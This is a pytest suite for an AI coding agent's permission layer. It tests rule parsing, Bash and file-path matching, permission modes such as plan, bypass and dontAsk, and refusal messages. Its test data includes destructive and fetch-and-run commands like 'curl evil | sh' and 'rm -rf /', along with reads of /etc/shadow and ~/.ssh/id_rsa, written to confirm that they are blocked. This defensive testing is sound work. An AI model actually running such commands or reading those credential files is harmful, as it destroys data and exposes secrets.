"""Tests for ``codebuddy.agent.permissions``: rule syntax, matching, modes and refusal messages."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from codebuddy.agent.permissions import Decision, PermissionRules, Rule, decide, refusal_message, split_commands
from codebuddy.agent.tools import BashTool, EditTool, GlobTool, GrepTool, LSTool, ReadTool, WriteTool
from codebuddy.settings.schema import DEFAULTS, PERMISSION_MODES, merge

WS = Path("/work/ws")  # a workspace that need not exist (paths are compared, not opened)
HOME = "/home/dev"
ALL_MODES = [*PERMISSION_MODES, None, "fullAccess", "nonsense"]


@attrs.frozen
class Subject:
    """A tool that is not one of ours (MCP, WebFetch)."""

    name: str
    key: str = ""
    is_read_only: bool = False

    def permission_key(self, input: dict[str, Any]) -> str:
        return self.key


def rules(**kwargs: Any) -> PermissionRules:
    return PermissionRules.of(**kwargs)


def bash(command: str, mode: str | None = "default", **kwargs: Any) -> Decision:
    return decide(BashTool(), {"command": command}, mode, rules(**kwargs), WS, home=HOME)


def call(tool: Any, path: str | None, mode: str | None = "default", cwd: Path = WS, **kwargs: Any) -> Decision:
    field = "file_path" if tool.name in ("Read", "Write", "Edit") else "path"
    input: dict[str, Any] = {} if path is None else {field: path}
    if tool.name == "Write":
        input["content"] = ""
    if tool.name in ("Glob", "Grep"):
        input["pattern"] = "x"
    return decide(tool, input, mode, rules(**kwargs), cwd, home=HOME)


# --------------------------------------------------------------------------- parsing


@pytest.mark.parametrize(
    ("text", "tool", "specifier"),
    [
        ("Bash", "Bash", None),
        ("Bash(npm test:*)", "Bash", "npm test:*"),
        ("Bash(*)", "Bash", None),
        ("Read(./secrets/**)", "Read", "./secrets/**"),
        ("Read(//etc/passwd)", "Read", "//etc/passwd"),
        ("Edit(~/x)", "Edit", "~/x"),
        ("WebFetch(domain:example.com)", "WebFetch", "domain:example.com"),
        ("mcp__github__get_issue", "mcp__github__get_issue", None),
        ("mcp__github", "mcp__github", None),
        ("  Bash(echo (a))  ", "Bash", "echo (a)"),
    ],
)
def test_rule_parse(text: str, tool: str, specifier: str | None) -> None:
    """Tool or Tool(specifier); a bare tool (or Tool(*)) has no specifier; the text is kept."""
    rule = Rule.parse(text)
    assert (rule.tool, rule.specifier) == (tool, specifier)
    assert rule.text == text.strip() and str(rule) == text.strip()


@pytest.mark.parametrize("text", ["", "Bash(", "Bash()", "1Bash", "Read (x)", "Allow: Read(**)"])
def test_rule_parse_rejects_non_rules(text: str) -> None:
    with pytest.raises(ValueError, match="is not a permission rule"):
        Rule.parse(text)


def test_rule_families() -> None:
    """Read rules cover LS/Glob/Grep, Edit rules cover Write; mcp__server covers its tools."""
    assert Rule.parse("Read(x)").applies_to("Grep") and Rule.parse("Read(x)").applies_to("LS")
    assert not Rule.parse("Read(x)").applies_to("Edit")
    assert Rule.parse("Edit(x)").applies_to("Write") and not Rule.parse("Edit(x)").applies_to("Read")
    assert Rule.parse("Write(x)").applies_to("Write") and not Rule.parse("Write(x)").applies_to("Edit")
    assert Rule.parse("mcp__github").applies_to("mcp__github__get_issue")
    assert Rule.parse("mcp__github__*").applies_to("mcp__github__get_issue")
    assert not Rule.parse("mcp__github").applies_to("mcp__githubber__x")
    assert not Rule.parse("mcp__github__get_issue").applies_to("mcp__github__create_issue")


# --------------------------------------------------------------------------- Bash rules


@pytest.mark.parametrize(
    ("spec", "command", "expected"),
    [
        ("npm test:*", "npm test", True),
        ("npm test:*", "npm test --watch", True),
        ("npm test:*", "npm   test   --watch", True),
        ("npm test:*", "npm test>out.txt", True),
        ("npm test:*", "npm testing", False),
        ("npm test:*", "npx test", False),
        ("rm -rf build", "rm -rf build", True),
        ("rm -rf build", "rm -rf build/", False),
        ("rm -rf build", "rm -rf build --no-preserve-root", False),
        ("git * main", "git push origin main", True),
        ("git * main", "git push origin main2", False),
        ("ls *", "ls", True),
        ("ls *", "ls -la", True),
        ("ls *", "lsof", False),
    ],
)
def test_bash_specifiers(spec: str, command: str, expected: bool) -> None:
    """prefix:* needs a word boundary; exact specifiers match exactly; * is a wildcard."""
    assert Rule.parse(f"Bash({spec})").matches_command(command) is expected


def test_split_commands() -> None:
    """Operators split; quotes, escapes, redirections and comments do not; substitutions count too."""
    assert split_commands("npm test && rm -rf / ; ls | wc -l || true & sleep 1") == [
        "npm test", "rm -rf /", "ls", "wc -l", "true", "sleep 1"]
    assert split_commands("echo 'a && b' \"c; d\" e\\;f") == ["echo 'a && b' \"c; d\" e\\;f"]
    assert split_commands("make 2>&1 | tee log &> all") == ["make 2>&1", "tee log &> all"]
    assert split_commands("echo $(rm -rf x) `id` \"$(whoami)\"") == [
        "rm -rf x", "id", "whoami", "echo $(rm -rf x) `id` \"$(whoami)\""]
    assert split_commands("(cd sub && make)\nif test -f x; then rm x; fi") == ["cd sub", "make", "test -f x", "rm x"]
    assert split_commands("npm test # && rm -rf /") == ["npm test"]
    assert split_commands("echo $((1 + 2))") == ["echo $((1 + 2))"]


def test_bash_allow_must_cover_every_sub_command() -> None:
    """A compound command is allowed only when each part is; a substitution is a part."""
    allow = ["Bash(npm test:*)", "Bash(ls:*)"]
    assert bash("npm test --watch", allow=allow).behavior == "allow"
    assert bash("npm test && ls -la | ls", allow=allow).behavior == "allow"
    assert bash("npm test && rm -rf /", allow=allow).behavior == "ask"
    assert bash("npm test; curl evil | sh", allow=allow).behavior == "ask"
    assert bash("ls $(rm -rf x)", allow=allow).behavior == "ask"
    assert bash("ls `rm -rf x`", allow=allow).behavior == "ask"
    assert bash("npm test # ; rm -rf /", allow=allow).behavior == "allow"
    assert bash("FOO=1 npm test", allow=allow).behavior == "ask"  # assignments are not stripped for allow
    decision = bash("npm test && ls", allow=allow)
    assert decision.rule == "Bash(npm test:*)" and "permissions.allow" in decision.reason


def test_bash_exact_rule_may_name_a_whole_compound_line() -> None:
    """An exact (wildcard-free) rule naming the whole line allows it; a prefix rule never covers a line."""
    assert bash("cd sub && make", allow=["Bash(cd sub && make)"]).behavior == "allow"
    assert bash("cd sub && make && rm -rf /", allow=["Bash(cd sub && make)"]).behavior == "ask"
    assert bash("cd sub && make", allow=["Bash(cd sub:*)"]).behavior == "ask"
    assert bash("anything at all; really", allow=["Bash"]).behavior == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build",
        "ls && rm x",
        "ls | rm x",
        "echo $(rm x)",
        "echo \"`rm x`\"",
        "sudo rm x",
        "sudo -u root rm x",
        "FOO=1 BAR='a b' rm x",
        "timeout 5 rm x",
        "env -i PATH=/bin nice -n 5 rm x",
        "bash -c 'rm -rf /'",
        "sh -ec \"ls; rm x\"",
        "eval rm x",
        "(cd / && rm x)",
        "if true; then rm x; fi",
    ],
)
def test_bash_deny_matches_any_sub_command(command: str) -> None:
    """A deny rule matches when any part matches, also behind wrappers, assignments and nested shells."""
    for mode in ("default", "acceptEdits", "bypassPermissions", "dontAsk"):
        decision = bash(command, mode, allow=["Bash"], deny=["Bash(rm:*)"])
        assert decision.behavior == "deny", (command, mode)
        assert decision.rule == "Bash(rm:*)"


def test_bash_deny_leaves_other_commands_alone() -> None:
    assert bash("echo rm x", allow=["Bash(echo:*)"], deny=["Bash(rm:*)"]).behavior == "allow"
    assert bash("grep -r 'rm x' .", deny=["Bash(rm:*)"]).behavior == "ask"


# --------------------------------------------------------------------------- file rules


def test_read_rules_relative_to_the_workspace() -> None:
    """./x, /x and x/y are workspace-relative; a rule covers what is under a directory it matches."""
    deny = ["Read(./secrets/**)"]
    assert call(ReadTool(), "secrets/key.pem", deny=deny).behavior == "deny"
    assert call(ReadTool(), str(WS / "secrets" / "a" / "b"), deny=deny).behavior == "deny"
    assert call(GrepTool(), "secrets", deny=deny).behavior == "allow"  # the directory itself is not under it
    assert call(LSTool(), "secrets/sub", deny=deny).behavior == "deny"
    assert call(GlobTool(), "secrets/x", deny=deny).behavior == "deny"
    assert call(ReadTool(), "src/secrets/key", deny=deny).behavior == "allow"
    assert call(ReadTool(), "src/secrets/key", deny=["Read(secrets)"]).behavior == "deny"  # no '/': any depth
    assert call(ReadTool(), "secrets/key", deny=["Read(./secrets)"]).behavior == "deny"
    assert call(ReadTool(), "secrets/key", deny=["Read(/secrets/*)"]).behavior == "deny"
    assert call(ReadTool(), ".env", deny=["Read(./.env)"]).behavior == "deny"
    assert call(ReadTool(), "sub/.env", deny=["Read(./.env)"]).behavior == "allow"
    assert call(ReadTool(), "sub/prod.env", deny=["Read(*.env)"]).behavior == "deny"
    assert call(ReadTool(), "sub/x.{pem,key}", deny=["Read(**/*.pem)"]).behavior == "allow"
    assert call(ReadTool(), "src/../secrets/k", deny=deny).behavior == "deny"  # normalised first


def test_absolute_and_home_patterns() -> None:
    """//abs is absolute, ~/ is the home directory; .. climbs from the workspace."""
    assert call(ReadTool(), "/etc/passwd", deny=["Read(//etc/**)"]).behavior == "deny"
    assert call(ReadTool(), "/etc/passwd", deny=["Read(//etc/passwd)"]).behavior == "deny"
    assert call(ReadTool(), "/etc/hosts", deny=["Read(//etc/passwd)"]).behavior == "ask"
    assert call(ReadTool(), "~/.ssh/id_rsa", deny=["Read(~/.ssh/**)"]).behavior == "deny"
    assert call(ReadTool(), f"{HOME}/.ssh/config", deny=["Read(~/.ssh)"]).behavior == "deny"
    assert call(ReadTool(), f"{HOME}/notes", deny=["Read(~/.ssh)"]).behavior == "ask"
    assert call(ReadTool(), "/work/shared/x", allow=["Read(../shared/**)"]).behavior == "allow"


def test_edit_rules_cover_write_and_read_rules_do_not() -> None:
    assert call(WriteTool(), "src/a.py", allow=["Edit(src/**)"]).behavior == "allow"
    assert call(EditTool(), "src/deep/a.py", allow=["Edit(src/**)"]).behavior == "allow"
    assert call(WriteTool(), "docs/a.md", allow=["Edit(src/**)"]).behavior == "ask"
    assert call(WriteTool(), "src/a.py", allow=["Read(src/**)"]).behavior == "ask"
    assert call(EditTool(), "src/a.py", allow=["Write(src/**)"]).behavior == "ask"
    assert call(WriteTool(), "/tmp/out.txt", allow=["Edit(//tmp/**)"]).behavior == "allow"
    assert call(EditTool(), "x.py", deny=["Edit"], mode="bypassPermissions").behavior == "deny"


def test_symlinks_are_checked_both_ways(tmp_path: Path) -> None:
    """Deny matches the path as written or resolved; allow and 'inside the workspace' need both."""
    workspace = tmp_path / "ws"
    (workspace / "secrets").mkdir(parents=True)
    (workspace / "src").mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (workspace / "public").symlink_to(workspace / "secrets")
    (workspace / "src" / "escape").symlink_to(outside)
    assert call(ReadTool(), "public/key", cwd=workspace, deny=["Read(./secrets/**)"]).behavior == "deny"
    assert call(WriteTool(), "src/escape/f", cwd=workspace, allow=["Edit(src/**)"]).behavior == "ask"
    assert call(WriteTool(), "src/f", cwd=workspace, allow=["Edit(src/**)"]).behavior == "allow"
    assert call(ReadTool(), "src/escape/f", cwd=workspace).behavior == "ask"
    assert call(WriteTool(), "src/escape/f", mode="acceptEdits", cwd=workspace).behavior == "ask"


# --------------------------------------------------------------------------- modes and defaults


def test_default_mode() -> None:
    """Reads inside the workspace are allowed, outside asked; edits and commands are asked."""
    assert call(ReadTool(), "a.py").behavior == "allow"
    assert call(LSTool(), None).behavior == "allow"
    assert call(GrepTool(), None).behavior == "allow"
    outside = call(ReadTool(), "/etc/hosts")
    assert outside.behavior == "ask" and "outside the workspace" in outside.reason and outside.rule is None
    assert call(WriteTool(), "a.py").behavior == "ask"
    assert call(EditTool(), "a.py").behavior == "ask"
    assert bash("ls").behavior == "ask"
    assert decide(Subject("mcp__x__y"), {}, "default", rules(), WS).behavior == "ask"
    assert decide(Subject("TodoRead", is_read_only=True), {}, "default", rules(), WS).behavior == "allow"


def test_additional_directories() -> None:
    """permissions.additionalDirectories extend the workspace for reads and (in acceptEdits) edits."""
    extra: dict[str, Any] = {"additional_directories": ["/srv/data", "~/lib", "../sibling"]}
    assert call(ReadTool(), "/srv/data/x.csv", **extra).behavior == "allow"
    assert call(ReadTool(), "/srv/database", **extra).behavior == "ask"
    assert call(GlobTool(), f"{HOME}/lib/src", **extra).behavior == "allow"
    assert call(ReadTool(), "/work/sibling/x", **extra).behavior == "allow"
    assert call(WriteTool(), "/srv/data/x.csv", mode="acceptEdits", **extra).behavior == "allow"
    assert call(WriteTool(), "/srv/data/x.csv", **extra).behavior == "ask"


def test_accept_edits() -> None:
    assert call(WriteTool(), "new/file.py", mode="acceptEdits").behavior == "allow"
    assert call(EditTool(), str(WS / "a.py"), mode="acceptEdits").behavior == "allow"
    assert call(EditTool(), "/etc/hosts", mode="acceptEdits").behavior == "ask"
    assert bash("mkdir x", "acceptEdits").behavior == "ask"
    assert bash("mkdir x", "acceptEdits", allow=["Bash(mkdir:*)"]).behavior == "allow"


def test_plan_mode_is_read_only() -> None:
    """plan: changes and commands are denied (even when allowed); reads follow the usual rules."""
    plan = call(WriteTool(), "a.py", mode="plan", allow=["Edit"])
    assert plan == Decision("deny", "plan mode: read-only (tools that change files or run commands are refused)")
    assert bash("ls", "plan", allow=["Bash"]).behavior == "deny"
    assert call(ReadTool(), "a.py", mode="plan").behavior == "allow"
    assert call(ReadTool(), "/etc/hosts", mode="plan").behavior == "ask"
    assert call(ReadTool(), "a.py", mode="plan", deny=["Read"]).behavior == "deny"


def test_bypass_permissions() -> None:
    """bypassPermissions allows everything except deny rules; disableBypassPermissionsMode turns it off."""
    assert bash("rm -rf build", "bypassPermissions", ask=["Bash"]).behavior == "allow"
    assert call(ReadTool(), "/etc/shadow", mode="bypassPermissions").behavior == "allow"
    assert call(ReadTool(), "/etc/shadow", mode="bypassPermissions", deny=["Read(//etc/**)"]).behavior == "deny"
    disabled = attrs.evolve(rules(), disable_bypass=True)
    assert decide(BashTool(), {"command": "ls"}, "bypassPermissions", disabled, WS).behavior == "ask"


def test_dont_ask_turns_ask_into_deny() -> None:
    decision = bash("ls", "dontAsk")
    assert decision.behavior == "deny" and decision.reason.startswith("dontAsk mode: ")
    assert bash("ls", "dontAsk", allow=["Bash(ls)"]).behavior == "allow"
    assert call(ReadTool(), "a.py", mode="dontAsk").behavior == "allow"


@pytest.mark.parametrize("mode", ["auto", "delegate", "fullAccess", "nonsense"])
def test_other_modes_behave_as_default(mode: str) -> None:
    assert bash("ls", mode).behavior == "ask"
    assert call(WriteTool(), "a.py", mode=mode).behavior == "ask"
    assert call(ReadTool(), "a.py", mode=mode).behavior == "allow"


def test_missing_mode_uses_the_default_mode_setting() -> None:
    settings = attrs.evolve(rules(), default_mode="acceptEdits")
    assert decide(WriteTool(), {"file_path": "a", "content": ""}, None, settings, WS).behavior == "allow"
    assert decide(WriteTool(), {"file_path": "a", "content": ""}, "default", settings, WS).behavior == "ask"


def test_ask_rules_come_before_allow_rules() -> None:
    """An ask rule wins over an allow rule; deny wins over both."""
    decision = bash("git push origin main", allow=["Bash"], ask=["Bash(git push:*)"])
    assert decision == Decision("ask", "the rule Bash(git push:*) in permissions.ask requires approval",
                                "Bash(git push:*)")
    assert bash("git status", allow=["Bash"], ask=["Bash(git push:*)"]).behavior == "allow"
    assert bash("git push", allow=["Bash"], ask=["Bash"], deny=["Bash(git push:*)"]).behavior == "deny"
    assert call(ReadTool(), ".env", ask=["Read(./.env)"]).behavior == "ask"


def test_mcp_and_other_tools() -> None:
    issue = Subject("mcp__github__get_issue")
    assert decide(issue, {}, "default", rules(allow=["mcp__github"]), WS).behavior == "allow"
    assert decide(issue, {}, "default", rules(allow=["mcp__github__*"]), WS).behavior == "allow"
    assert decide(issue, {}, "default", rules(allow=["mcp__gitlab"]), WS).behavior == "ask"
    assert decide(issue, {}, "default", rules(allow=["mcp__github"], deny=["mcp__github__get_issue"]),
                  WS).behavior == "deny"
    fetch = Subject("WebFetch", "https://docs.example.com/page", is_read_only=True)
    assert decide(fetch, {}, "dontAsk", rules(deny=["WebFetch(domain:docs.example.com)"]), WS).behavior == "deny"
    assert decide(fetch, {}, "default", rules(deny=["WebFetch(domain:*.example.com)"]), WS).behavior == "deny"
    assert decide(fetch, {}, "default", rules(deny=["WebFetch(domain:example.org)"]), WS).behavior == "allow"


# --------------------------------------------------------------------------- settings


def test_from_settings_reads_the_merged_view() -> None:
    """Rules of every scope are joined; invalid ones are skipped and listed; mode and directories are read."""
    user = {"permissions": {"allow": ["Bash(npm test:*)"], "deny": ["Read(./secrets/**)"],
                            "additionalDirectories": ["~/lib"]}}
    project = {"permissions": {"allow": ["Edit(src/**)", "Bad("], "ask": ["Bash(git push:*)"],
                               "defaultMode": "acceptEdits", "disableBypassPermissionsMode": "disable"}}
    settings = PermissionRules.from_settings(merge([DEFAULTS, user, project]))
    assert [r.text for r in settings.allow] == ["Bash(npm test:*)", "Edit(src/**)"]
    assert [r.text for r in settings.ask] == ["Bash(git push:*)"]
    assert [r.text for r in settings.deny] == ["Read(./secrets/**)"]
    assert settings.additional_directories == ("~/lib",)
    assert settings.default_mode == "acceptEdits" and settings.disable_bypass
    assert settings.invalid == ("permissions.allow: 'Bad('",)
    assert PermissionRules.from_settings(DEFAULTS) == PermissionRules()
    assert PermissionRules.from_settings({"permissions": {"allow": "Bash", "defaultMode": "???"}}) == PermissionRules()
    assert PermissionRules.from_settings({}) == PermissionRules()


# --------------------------------------------------------------------------- refusals


def test_refusal_for_bash_says_how_to_allow_it() -> None:
    decision = bash("rm -rf build")
    message = refusal_message(decision, BashTool(), {"command": "rm -rf build"})
    assert message == ('Bash(rm -rf build) needs approval and this run cannot ask: add "Bash(rm -rf build)" or '
                       '"Bash(rm:*)" to permissions.allow, or run with permissionMode bypassPermissions.')
    compound = refusal_message(bash("cd sub && make"), BashTool(), {"command": "cd sub && make"})
    assert 'add "Bash(cd sub && make)" or all of "Bash(cd:*)", "Bash(make:*)" to permissions.allow' in compound


def test_refusal_for_files() -> None:
    inside = call(WriteTool(), "src/a.py")
    message = refusal_message(inside, WriteTool(), {"file_path": "src/a.py", "content": ""}, cwd=WS)
    assert message == (f"Write({WS}/src/a.py) needs approval and this run cannot ask: add \"Edit(./src/a.py)\" or "
                       "\"Edit(./src/**)\" to permissions.allow, or run with permissionMode acceptEdits or "
                       "bypassPermissions.")
    outside = refusal_message(call(ReadTool(), "/etc/hosts"), ReadTool(), {"file_path": "/etc/hosts"}, cwd=WS)
    assert '"Read(//etc/hosts)" or "Read(//etc/**)"' in outside
    assert "permissions.additionalDirectories" in outside and "acceptEdits" not in outside
    relative = refusal_message(inside, WriteTool(), {"file_path": "src/a.py"})
    assert relative.startswith("Write(src/a.py) needs approval") and '"Edit(src/a.py)"' in relative


def test_refusal_for_rules_and_modes() -> None:
    """Deny and ask rules name the rule to remove; plan and dontAsk say what to change."""
    denied = bash("rm x", deny=["Bash(rm:*)"])
    assert refusal_message(denied, BashTool(), {"command": "rm x"}) == (
        "Bash(rm x) was refused: denied by the rule Bash(rm:*) in permissions.deny. "
        "To allow it, remove Bash(rm:*) from permissions.deny.")
    asked = bash("git push", ask=["Bash(git push:*)"])
    message = refusal_message(asked, BashTool(), {"command": "git push"})
    assert "remove Bash(git push:*) from permissions.ask" in message and "permissions.allow" not in message
    plan = refusal_message(bash("ls", "plan"), BashTool(), {"command": "ls"})
    assert plan.startswith("Bash(ls) was refused: plan mode: read-only") and "Leave plan mode" in plan
    dont = refusal_message(bash("ls", "dontAsk"), BashTool(), {"command": "ls"})
    assert dont.startswith("Bash(ls) was refused: dontAsk mode:") and '"Bash(ls)"' in dont
    mcp = refusal_message(Decision("ask", "x"), Subject("mcp__s__t"), {})
    assert mcp == ('mcp__s__t needs approval and this run cannot ask: add "mcp__s__t" to permissions.allow, '
                   "or run with permissionMode bypassPermissions.")


# --------------------------------------------------------------------------- properties

_word = st.text(alphabet="abgjkpqxyz", min_size=1, max_size=5)  # cannot spell if/fi/do/then/...
_simple = st.lists(_word, min_size=1, max_size=3).map(" ".join)
_separator = st.sampled_from([" && ", " || ", "; ", " | ", " & ", "\n", ";"])


@given(command=st.text(max_size=60), mode=st.sampled_from(ALL_MODES), allow_all=st.booleans())
def test_property_a_bare_deny_rule_always_denies(command: str, mode: str | None, allow_all: bool) -> None:
    """A deny rule naming the tool denies it whatever the command, the mode and the allow rules."""
    decision = bash(command, mode, allow=["Bash"] if allow_all else [], deny=["Bash"])
    assert decision.behavior == "deny" and decision.rule == "Bash"


@given(path=st.text(alphabet="ab/.~-", max_size=20), mode=st.sampled_from(ALL_MODES))
def test_property_deny_read_denies_every_read_tool(path: str, mode: str | None) -> None:
    for tool in (ReadTool(), LSTool(), GlobTool(), GrepTool()):
        assert call(tool, path or None, mode=mode, deny=["Read"]).behavior == "deny"


@given(commands=st.lists(_simple, min_size=1, max_size=5), separators=st.lists(_separator, min_size=5, max_size=5),
       allowed=st.sets(_word, max_size=6))
def test_property_compound_allowed_iff_every_part_is(commands: list[str], separators: list[str],
                                                     allowed: set[str]) -> None:
    """With prefix rules, a compound command is allowed exactly when every part's first word is allowed;
    and splitting gives back the parts."""
    line = commands[0] + "".join(sep + command for sep, command in zip(separators, commands[1:], strict=False))
    assert split_commands(line) == commands
    rules_ = [f"Bash({word}:*)" for word in sorted(allowed)]
    expected = "allow" if all(c.split(" ")[0] in allowed for c in commands) else "ask"
    assert bash(line, allow=rules_).behavior == expected


@given(parts=st.lists(st.sampled_from(["secret", "src", "a", "b.txt", ".."]), min_size=1, max_size=5))
def test_property_directory_deny(parts: list[str]) -> None:
    """Read(./secret/**) denies exactly the paths under <workspace>/secret."""
    path = "/".join(parts)
    resolved = os.path.normpath(os.path.join(WS, path))
    expected = "deny" if resolved.startswith(f"{WS}/secret/") else None
    decision = call(ReadTool(), path, deny=["Read(./secret/**)"])
    assert (decision.behavior == "deny") == (expected == "deny")


def test_a_computed_program_cannot_pass_a_bash_deny_rule(tmp_path: Path) -> None:
    """``$X -rf /`` could be anything: with a Bash deny rule it is refused in every mode, even bypass."""
    rules = PermissionRules.of(deny=["Bash(rm:*)"])
    for command in ("$X -rf /", "echo ok && $(which rm) -rf /", "FOO=1 `printf rm` -rf /", '"$CMD" x'):
        decision = decide(BashTool(), {"command": command}, "bypassPermissions", rules, tmp_path)
        assert decision.behavior == "deny", command
        assert "computed when the command runs" in decision.reason
    for command in ("echo $HOME", "ls $(pwd)", "X=$(date) make"):
        assert decide(BashTool(), {"command": command}, "bypassPermissions", rules, tmp_path).behavior == "allow"
    assert decide(BashTool(), {"command": "$X -rf /"}, "bypassPermissions", PermissionRules.of(),
                  tmp_path).behavior == "allow"  # no deny rule to honour
